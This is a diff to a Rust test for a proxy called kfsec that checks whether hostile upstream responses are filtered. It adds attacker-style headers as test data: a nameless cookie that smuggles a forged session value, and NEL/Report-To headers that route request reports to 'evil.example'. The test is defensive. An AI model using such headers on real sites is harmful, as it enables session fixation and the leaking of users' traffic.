@@ -526,8 +526,9 @@ async fn framing_header_look_alikes_never_reach_an_upstream() {
 }
 
 /// An upstream's answer cannot set, replace or clear kfsec's cookies (the session — planted under
-/// a path of another user's app, the browser would send it first — the login states), clear
-/// the whole site, or switch HSTS off, on the lean `GET` path, hyper's (`POST`) and HTTP/2; its
+/// a path of another user's app, the browser would send it first — the login states; a
+/// nameless cookie too, which comes back as `name=value`), clear the whole site, have every
+/// request to the origin reported elsewhere, or switch HSTS off, on the lean `GET` path, hyper's (`POST`) and HTTP/2; its
 /// own cookies reach the client.
 #[tokio::test]
 async fn upstream_answers_cannot_plant_kfsecs_cookies_or_clear_the_site() {
@@ -547,6 +548,9 @@ async fn upstream_answers_cannot_plant_kfsecs_cookies_or_clear_the_site() {
                 let resp = "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\
 Set-Cookie: authservice_session=ATTACKERS; Path=/victim/; Secure\r\n\
 Set-Cookie: theme=dark; Path=/up/\r\n\
+Set-Cookie: =authservice_session=ATTACKERS; Path=/victim/\r\n\
+NEL: {\"report_to\":\"g\",\"max_age\":31536000,\"success_fraction\":1}\r\n\
+Report-To: {\"group\":\"g\",\"max_age\":31536000,\"endpoints\":[{\"url\":\"https://evil.example\"}]}\r\n\
 Set-Cookie: oidc_state_csrf=FORGED; Path=/authservice/\r\n\
 set-cookie: kfsec_upstream_login=; Max-Age=0\r\n\
 Clear-Site-Data: \"cookies\", \"storage\"\r\n\
@@ -557,9 +561,12 @@ Strict-Transport-Security: max-age=0\r\nConnection: close\r\n\r\nok";
         }
     });
     let k = Kfsec::start(&format!("- prefix: /up/\n  upstream: http://{up}\n  public: true\n")).await;
-    let check = |what: &str, cookies: Vec<String>, csd: bool, hsts: Vec<String>| {
+    let check = |what: &str, cookies: Vec<String>, confined: bool, hsts: Vec<String>| {
         assert_eq!(cookies, ["theme=dark; Path=/up/"], "{what}");
-        assert!(!csd, "{what}: Clear-Site-Data reached the client");
+        assert!(
+            !confined,
+            "{what}: Clear-Site-Data, NEL or Report-To reached the client"
+        );
         assert_eq!(hsts, ["max-age=31536000"], "{what}");
     };
     for (line, body) in [("GET /up/a HTTP/1.1", &b""[..]), ("POST /up/b HTTP/1.1", b"x")] {
@@ -581,7 +588,9 @@ Strict-Transport-Security: max-age=0\r\nConnection: close\r\n\r\nok";
         check(
             line,
             all("set-cookie"),
-            !all("clear-site-data").is_empty(),
+            ["clear-site-data", "nel", "report-to"]
+                .iter()
+                .any(|n| !all(n).is_empty()),
             all("strict-transport-security"),
         );
     }
@@ -591,7 +600,9 @@ Strict-Transport-Security: max-age=0\r\nConnection: close\r\n\r\nok";
     check(
         "HTTP/2",
         all("set-cookie"),
-        h.contains_key("clear-site-data"),
+        ["clear-site-data", "nel", "report-to"]
+            .iter()
+            .any(|n| h.contains_key(*n)),
         all("strict-transport-security"),
     );
     k.running.shutdown().await;
